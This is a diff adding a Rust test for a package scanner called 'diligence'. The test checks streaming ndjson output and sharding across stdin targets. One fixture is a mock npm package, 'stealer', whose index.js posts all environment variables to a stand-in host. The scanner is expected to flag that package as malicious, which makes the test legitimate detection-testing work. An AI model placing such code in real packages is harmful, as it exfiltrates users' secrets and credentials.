@@ -280,3 +280,82 @@ fn clean_package_lists_lower_findings_only_with_verbose() {
     assert_eq!(json["packages"][0]["verdict"], "clean");
     assert_eq!(json["packages"][0]["weak_signals"], 0);
 }
+
+/// `scan --stdin --format ndjson`: one record per target line as each finishes (comments and
+/// blank lines skipped but counted in `seq`), an unreadable target is an error record, not
+/// the end of the stream; `--shard I/N` splits the lines into disjoint sets that cover them.
+#[test]
+fn stdin_ndjson_one_record_per_target_and_shards_cover_the_list() {
+    let tmp = tempfile::tempdir().unwrap();
+    let bad = tmp.path().join("stealer");
+    let good = tmp.path().join("plain");
+    for (dir, name, code) in [
+        (
+            &bad,
+            "stealer",
+            "const https = require('https');\nconst body = JSON.stringify(process.env);\nconst req = https.request({ hostname: 'collect.example.invalid', method: 'POST' });\nreq.write(body);\nreq.end();\n",
+        ),
+        (&good, "plain", "module.exports = (a, b) => a + b;\n"),
+    ] {
+        std::fs::create_dir(dir).unwrap();
+        std::fs::write(
+            dir.join("package.json"),
+            format!(r#"{{"name":"{name}","version":"1.0.0"}}"#),
+        )
+        .unwrap();
+        std::fs::write(dir.join("index.js"), code).unwrap();
+    }
+    let missing = tmp.path().join("missing.tgz");
+    let input = format!(
+        "# backfill\n{}\n\n{}\n{}\n",
+        bad.display(),
+        good.display(),
+        missing.display()
+    );
+    let run = |extra: &[&str]| {
+        let out = Command::cargo_bin("diligence")
+            .unwrap()
+            .current_dir(tmp.path())
+            .args(["scan", "--stdin", "--format", "ndjson"])
+            .args(extra)
+            .write_stdin(input.clone())
+            .output()
+            .unwrap();
+        let mut records: Vec<serde_json::Value> = String::from_utf8_lossy(&out.stdout)
+            .lines()
+            .map(|l| serde_json::from_str(l).unwrap())
+            .collect();
+        records.sort_by_key(|r| r["seq"].as_u64());
+        (out.status.code().unwrap(), records)
+    };
+    let (code, records) = run(&[]);
+    assert_eq!(code, 1);
+    let summary: Vec<(u64, &str, &str)> = records
+        .iter()
+        .map(|r| {
+            (
+                r["seq"].as_u64().unwrap(),
+                r["status"].as_str().unwrap(),
+                r["verdict"].as_str().unwrap_or("-"),
+            )
+        })
+        .collect();
+    assert_eq!(
+        summary,
+        [
+            (2, "ok", "malicious"),
+            (4, "ok", "clean"),
+            (5, "error", "-")
+        ]
+    );
+    assert_eq!(records[0]["schema"], "diligence.scan-record/1");
+    assert_eq!(records[2]["exit_code"], 2);
+    // Two shards: every target exactly once.
+    let mut seqs: Vec<u64> = ["1/2", "2/2"]
+        .iter()
+        .flat_map(|s| run(&["--shard", s]).1)
+        .map(|r| r["seq"].as_u64().unwrap())
+        .collect();
+    seqs.sort();
+    assert_eq!(seqs, [2, 4, 5]);
+}
